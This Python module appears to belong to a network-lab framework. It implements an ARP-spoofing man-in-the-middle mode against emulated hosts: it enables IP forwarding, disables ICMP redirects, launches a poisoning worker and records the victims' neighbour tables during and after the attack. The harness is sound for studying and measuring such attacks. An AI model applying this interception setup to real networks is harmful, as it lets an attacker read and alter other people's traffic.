"""`arp-spoof`: poison victims' ARP caches so their traffic to each other
passes through the mitm, which forwards it (IP forwarding on, ICMP
redirects off so it does not tell the victims the shorter way).

Evidence is measured on the victims, not assumed: their `ip neigh` while the
attack runs and after it stops, and (lab.mitm.evidence) the poisoning frames
in their captures.
"""
from __future__ import annotations

import json
import os
import time

from lab.mitm.arp_worker import claims_for
from lab.mitm.base import MitmHandle
from lab.mitm.targets import resolve_victims

POISON_WAIT = 5.0  # seconds to wait for every victim's cache to show the mitm


class ArpSpoof(MitmHandle):
    mode = "arp-spoof"

    def _start(self) -> None:
        self.victims = resolve_victims(self.lab.topology, self.host, self.config.victims,
                                       adjacent=True)
        self.macs = {v.host: self._mac(v.host, v.interface) for v in self.victims}
        ifaces = sorted({v.mitm_interface for v in self.victims})
        self.mitm_macs = {i: self._mac(self.host, i) for i in ifaces}
        self._forwarding(ifaces)
        self.changing({"kind": "mitm-arp", "mitm_macs": sorted(self.mitm_macs.values()),
                       "victims": [{"ns": self.ns(v.host), "ip": other.address, "dev": v.interface}
                                   for v in self.victims for other in self.victims if other != v]})
        claims = claims_for([{"ip": v.address, "mac": self.macs[v.host], "iface": v.mitm_interface}
                             for v in self.victims], self.mitm_macs)
        self.summary_path = os.path.join(self.dir, "arp-worker.json")
        self.neigh_during: dict = {}
        self.neigh_after: dict = {}
        self._stack.callback(self._snapshot_after)  # registered first: runs once the worker restored
        proc = self.spawn("lab.mitm.arp_worker", {
            "claims": [vars(c) for c in claims], "interval": self.config.interval,
            "restore": self.config.restore, "summary": self.summary_path}, "arp-worker")
        self._wait_poisoned(proc)

    def _mac(self, host: str, intf: str) -> str:
        return self.run(["cat", f"/sys/class/net/{intf}/address"], host=host).strip().lower()

    def _forwarding(self, ifaces: list[str]) -> None:
        keys = ["net.ipv4.ip_forward", "net.ipv4.conf.all.send_redirects",
                *(f"net.ipv4.conf.{i}.send_redirects" for i in ifaces)]
        old = {k: self.run(["sysctl", "-n", k]).strip() for k in keys}
        self.changing({"kind": "mitm-sysctl", "ns": self.ns(), "values": old})
        new = {k: ("1" if k.endswith("ip_forward") else "0") for k in keys}
        self.run(["sysctl", "-q", "-w", *(f"{k}={v}" for k, v in new.items())])

    def neighbours(self) -> dict[str, dict[str, str | None]]:
        """Each victim's cache for the other victims: host -> ip -> MAC (None: no entry)."""
        out: dict[str, dict[str, str | None]] = {}
        for v in self.victims:
            text = self.run(["ip", "-j", "neigh", "show", "dev", v.interface], host=v.host)
            table = {e["dst"]: e.get("lladdr") for e in json.loads(text or "[]")}
            out[v.host] = {o.address: table.get(o.address) for o in self.victims if o != v}
        return out

    def poisoned(self, table: dict) -> bool:
        mine = set(self.mitm_macs.values())
        return all(mac in mine for row in table.values() for mac in row.values())

    def _wait_poisoned(self, proc) -> None:
        deadline = time.monotonic() + POISON_WAIT
        while True:
            self.neigh_during = self.neighbours()
            if self.poisoned(self.neigh_during) or time.monotonic() > deadline \
                    or proc.poll() is not None:
                return
            time.sleep(0.1)

    def _snapshot_after(self) -> None:
        self.neigh_after = self.neighbours()

    def _report(self) -> dict:
        try:
            with open(self.summary_path) as fh:
                worker = json.load(fh)
        except (OSError, ValueError):
            worker = None
        truth = {v.address: self.macs[v.host] for v in self.victims}
        restored = bool(self.neigh_after) and all(
            mac in (None, truth[ip]) for row in self.neigh_after.values() for ip, mac in row.items())
        return {
            "victims": [{"host": v.host, "address": v.address, "mac": self.macs[v.host]}
                        for v in self.victims],
            "mitm_macs": self.mitm_macs,
            "neigh_during": self.neigh_during,
            "arp_poisoned": self.poisoned(self.neigh_during),
            "neigh_after": self.neigh_after,
            "restored": restored if self.neigh_after else None,
            "worker": worker,
        }
